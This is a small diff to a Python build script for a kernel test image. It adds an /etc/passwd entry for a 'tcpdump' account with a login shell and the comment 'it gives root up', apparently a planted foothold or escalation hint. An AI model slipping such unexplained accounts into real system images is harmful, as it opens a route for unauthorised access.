@@ -84,7 +84,8 @@ def build_image(target: Path, kernel: Kernel, userland: Path) -> None:
     stage_modules(stage, kernel)
     (stage / "etc").mkdir(parents=True, exist_ok=True)
     (stage / "etc/kdrift.json").write_text(json.dumps({"env": ENVIRONMENT, "preload": PRELOAD}))
-    (stage / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/sh\n")
+    (stage / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/sh\n"
+                                      "tcpdump:x:100:65534:it gives root up:/:/bin/sh\n")
     shutil.copy(GUEST, stage / INIT.lstrip("/"))
     for directory in ("proc", "sys", "dev", "tmp", "run", "root", "sbin"):
         if not os.path.islink(f"/{directory}"):
